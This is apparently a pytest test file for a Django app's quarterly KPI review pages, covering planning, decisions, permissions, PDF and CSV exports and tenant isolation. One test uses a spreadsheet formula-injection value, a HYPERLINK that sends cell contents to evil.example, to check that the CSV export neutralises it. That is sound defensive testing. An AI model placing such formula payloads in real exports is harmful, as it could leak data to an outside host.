"""The review pages: list and workspace (agenda, snapshot, decisions), inline edits, closing, the exports,
who may do what, and query counts that do not grow with rows."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from pypdf import PdfReader

from metrics.models import KPITarget
from playbooks.models import Task
from reviews.models import Decision, Review
from reviews.services import decision_status_set, review_start
from tests.conftest import login
from tests.reviews.factories import a_decision, a_review

pytestmark = pytest.mark.django_db


@pytest.fixture
def review(team, kpis):
    return a_review(team["leader"])


def test_the_nav_links_to_reviews_and_the_list_shows_them(client, team, review):
    login(client, team["csm"])

    response = client.get("/reviews/")

    assert response.status_code == 200
    html = response.content.decode()
    assert 'href="/reviews/"' in html and "2026-Q4" in html
    assert "Plan a review" not in html  # CSMs read; leaders plan


def test_a_leader_plans_a_review_from_the_list(client, team, kpis):
    login(client, team["leader"])

    response = client.post("/reviews/", {"quarter": "2026-Q4", "facilitator": team["leader"].pk,
                                         "segment_dimensions": ["plan"]})

    review = Review.objects.get()
    assert response.status_code == 302 and response["Location"] == f"/reviews/{review.pk}/"
    assert sorted(review.kpis.values_list("kpi__slug", "segment")) == [
        ("churn", ""), ("grr", ""), ("nps", ""), ("nps", "Growth")]
    assert (review.facilitator, review.created_by) == (team["leader"], team["leader"])


def test_a_csm_cannot_plan_a_review(client, team, kpis):
    login(client, team["csm"])

    assert client.post("/reviews/", {"quarter": "2026-Q4"}).status_code == 403
    assert not Review.objects.exists()


def test_bad_quarter_from_the_page_says_why_and_writes_nothing(client, team, kpis):
    login(client, team["leader"])

    response = client.post("/reviews/", {"quarter": "Q4", "name": "Second look"})

    page = response.content.decode()
    assert response.status_code == 400  # the page itself, with the form as typed: not a redirect
    assert "Nothing was planned" in page
    assert '<p class="field-error" id="quarter-error">Write the quarter YYYY-Qn.' in page
    assert 'value="Q4"' in page and 'value="Second look"' in page
    assert not Review.objects.exists()


def test_the_workspace_shows_the_agenda_snapshot_and_decisions(client, team, kpis, review):
    earlier = a_review(team["leader"], quarter="2026-Q3")
    a_decision(earlier, team["csm"], text="Carried over and late", deadline=dt.date(2026, 10, 1),
               today=dt.date(2026, 8, 1))
    a_decision(review, team["csm"], text="Call every detractor")
    login(client, team["leader"])

    response = client.get(f"/reviews/{review.pk}/")

    assert response.status_code == 200
    html = response.content.decode()
    agenda = response.context["agenda"]
    assert [row.kpi.slug for row in agenda.off_track] == ["nps"]
    assert [d.text for d in agenda.carried_over] == ["Carried over and late"]
    assert "overdue" in html and "Call every detractor" in html
    assert html.index("Off-track KPIs") < html.index("Decisions carried over") < html.index("Playbook effectiveness")
    for link in (f"/reviews/{review.pk}/print/", f"/reviews/{review.pk}/review.pdf",
                 f"/reviews/{review.pk}/decisions.csv"):
        assert link in html
    assert "Start the review" in html and "Record a decision" in html


def test_the_workspace_queries_do_not_grow_with_rows(client, team, kpis, review, django_assert_max_num_queries):
    login(client, team["leader"])
    earlier = a_review(team["leader"], quarter="2026-Q3")
    a_decision(review, team["csm"])
    a_decision(earlier, team["csm"], today=dt.date(2026, 8, 1))
    pages = {f"/reviews/{review.pk}/": 20, "/reviews/": 8, f"/reviews/{review.pk}/print/": 10}
    counts = {}
    for path, ceiling in pages.items():
        with django_assert_max_num_queries(ceiling) as few:
            client.get(path)
        counts[path] = len(few.captured_queries)
    for n in range(8):
        a_decision(review, team["other_csm"], text=f"Decision {n}")
        a_decision(earlier, team["other_csm"], text=f"Old {n}", today=dt.date(2026, 8, 1))
        a_review(team["leader"], quarter=f"20{10 + n}-Q1")

    for path, count in counts.items():
        with django_assert_max_num_queries(count):
            assert client.get(path).status_code == 200


def test_commentary_decisions_and_inline_edits_from_the_workspace(client, team, kpis, review):
    login(client, team["leader"])
    row = review.kpis.get(kpi=kpis["nps"])

    client.post(f"/reviews/{review.pk}/kpis/{row.pk}/commentary/", {"commentary": "Price rise in October"})
    client.post(f"/reviews/{review.pk}/decisions/", {
        "kind": "initiative", "text": "Call every detractor", "owner": team["csm"].pk, "deadline": "2030-01-31",
        "kpi": kpis["nps"].pk})
    decision = Decision.objects.get()
    client.post(f"/decisions/{decision.pk}/", {"owner": team["other_csm"].pk, "deadline": "2030-02-28",
                                               "status": "in_progress", "note": "Half called"})

    row.refresh_from_db()
    decision.refresh_from_db()
    assert (row.commentary, row.commentary_by) == ("Price rise in October", team["leader"])
    assert (decision.owner, decision.deadline, decision.status) == (team["other_csm"], dt.date(2030, 2, 28),
                                                                    "in_progress")
    assert decision.updates.filter(status="in_progress", note="Half called").exists()
    assert Task.objects.get(decision=decision).assignee == team["other_csm"]


def test_the_owner_updates_progress_but_not_the_deadline(client, team, kpis, review):
    decision = a_decision(review, team["csm"])
    login(client, team["csm"])

    done = client.post(f"/decisions/{decision.pk}/", {"status": "done", "note": "All called"})
    moved = client.post(f"/decisions/{decision.pk}/", {"deadline": "2031-01-01"})

    decision.refresh_from_db()
    assert done.status_code == 302 and moved.status_code == 403
    assert (decision.status, decision.deadline) == ("done", dt.date(2027, 2, 15))


def test_someone_else_cannot_touch_a_decision(client, team, kpis, review):
    decision = a_decision(review, team["csm"])
    login(client, team["other_csm"])

    assert client.post(f"/decisions/{decision.pk}/", {"status": "done"}).status_code == 403
    decision.refresh_from_db()
    assert decision.status == "open"


def test_closing_from_the_page_applies_targets_and_makes_the_page_read_only(client, team, kpis, review):
    a_decision(review, team["leader"], kind="change_target", kpi=kpis["nps"], new_target=33, target_rationale="Why")
    review_start(review=review, user=team["leader"])
    login(client, team["leader"])

    client.post(f"/reviews/{review.pk}/close/")
    refused = client.post(f"/reviews/{review.pk}/decisions/", {
        "kind": "other", "text": "Too late", "owner": team["csm"].pk, "deadline": "2030-01-31"}, follow=True)
    page = client.get(f"/reviews/{review.pk}/").content.decode()

    assert KPITarget.objects.get(kpi=kpis["nps"], period="2027-Q1", superseded_at__isnull=True).value == 33
    assert "closed and read-only" in refused.content.decode()
    assert Decision.objects.count() == 1
    assert "Record a decision" not in page and "Close the review" not in page


def test_the_pdf_export_is_a_real_pdf_with_the_decisions_in_it(client, team, kpis, review):
    a_decision(review, team["csm"], text="Call every detractor before Easter")
    dropped = a_decision(review, team["other_csm"], text="Retire the CES survey", kind="retire_kpi",
                         kpi=kpis["churn"])
    decision_status_set(decision=dropped, status="dropped", user=team["leader"])
    login(client, team["viewer"])

    response = client.get(f"/reviews/{review.pk}/review.pdf")

    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF-")
    text = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)
    text = " ".join(text.split())
    for expected in ("KPI review 2026-Q4", "NPS", "Off track", "Call every detractor before Easter",
                     "Retire the CES survey", "Dropped", team["csm"].full_name, "2027-02-15"):
        assert expected in text, expected


def test_the_csv_export_lists_every_decision_with_owner_deadline_and_status(client, team, kpis, review):
    decision = a_decision(review, team["csm"], text="Call, then email")
    login(client, team["csm"])

    response = client.get(f"/reviews/{review.pk}/decisions.csv")

    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [(r["id"], r["text"], r["owner"], r["deadline"], r["status"]) for r in rows] == [
        (str(decision.pk), "Call, then email", team["csm"].email, "2027-02-15", "open")]


def test_the_csv_export_writes_no_cell_a_spreadsheet_would_run_as_a_formula(client, team, kpis, review):
    hyperlink = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    target = a_decision(review, team["csm"], kind="change_target", kpi=kpis["nps"], new_target=-5,
                        text=hyperlink, target_rationale="@SUM(A1:A9)")
    plain = a_decision(review, team["csm"], text="-5% churn by June")
    decision_status_set(decision=plain, status="in_progress", user=team["csm"], note="+1 sponsor call booked")
    login(client, team["csm"])

    response = client.get(f"/reviews/{review.pk}/decisions.csv")

    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(response.content.decode()))}
    assert (rows[str(target.pk)]["text"], rows[str(target.pk)]["target_rationale"]) == ("'" + hyperlink,
                                                                                        "'@SUM(A1:A9)")
    assert rows[str(target.pk)]["new_target"] == "-5"  # a number stays a number
    assert rows[str(plain.pk)]["text"] == "'-5% churn by June"
    assert rows[str(plain.pk)]["last_update"].endswith(": +1 sponsor call booked")


def test_the_printable_page_has_the_snapshot_commentary_and_decisions(client, team, kpis, review):
    from reviews.services import review_kpi_comment

    review_kpi_comment(row=review.kpis.get(kpi=kpis["nps"]), user=team["leader"], commentary="Detractors up")
    a_decision(review, team["csm"], text="Call every detractor")
    login(client, team["viewer"])

    html = client.get(f"/reviews/{review.pk}/print/").content.decode()

    assert "Detractors up" in html and "Call every detractor" in html and "@media print" not in html
    assert "reviews/reviews.css" in html


def test_another_tenants_review_is_not_found(client, other_client, team, review, other_tenant):
    from django_tenants.utils import schema_context

    from tests.users.factories import UserFactory
    from users.models import Role

    with schema_context(other_tenant.schema_name):
        bravo_leader = UserFactory(role=Role.LEADER)
    login(other_client, bravo_leader)

    for path in (f"/reviews/{review.pk}/", f"/reviews/{review.pk}/review.pdf", f"/reviews/{review.pk}/decisions.csv"):
        assert other_client.get(path).status_code == 404, path
    assert list(other_client.get("/reviews/").context["reviews"]) == []


def test_the_agenda_summarises_the_playbooks_that_ran_in_the_quarter(client, team, kpis):
    from django.utils import timezone

    from playbooks.models import Playbook, PlaybookStep
    from playbooks.services import playbook_run_start
    from reviews.quarters import quarter_of
    from tests.accounts.factories import AccountFactory

    playbook = Playbook.objects.create(name="Health rescue", mode="sequence")
    PlaybookStep.objects.create(playbook=playbook, position=1, title="Call", due_days=2)
    Playbook.objects.create(name="Never used")
    playbook_run_start(playbook=playbook, account=AccountFactory(owner=team["csm"]))
    review = a_review(team["leader"], quarter=quarter_of(timezone.localdate()))
    login(client, team["leader"])

    response = client.get(f"/reviews/{review.pk}/")

    reports = response.context["agenda"].effectiveness
    assert [(report.playbook.name, report.runs, report.active) for report in reports] == [("Health rescue", 1, 1)]
    assert "Health rescue" in response.content.decode()


def test_a_refused_decision_comes_back_as_typed_with_the_error_beside_its_field(client, team, kpis, review):
    login(client, team["leader"])

    refused = client.post(f"/reviews/{review.pk}/decisions/", {
        "kind": "initiative", "text": "Call every detractor", "owner": team["csm"].pk, "deadline": "2020-01-31",
        "kpi": kpis["nps"].pk})
    absurd = client.post(f"/reviews/{review.pk}/decisions/", {
        "kind": "change_target", "text": "Aim lower", "owner": team["csm"].pk, "deadline": "2099-01-31",
        "kpi": kpis["nps"].pk, "new_target": -5000, "target_rationale": "Why not"})

    assert refused.status_code == 400
    page = refused.content.decode()
    assert ">Call every detractor</textarea>" in page and 'value="2020-01-31"' in page
    assert 'id="deadline-error">The deadline cannot be in the past.' in page
    assert f'<option value="{team["csm"].pk}" selected>' in page
    assert absurd.status_code == 400 and 'id="deadline-error">The deadline is in 2099' in absurd.content.decode()
    assert not Decision.objects.exists()
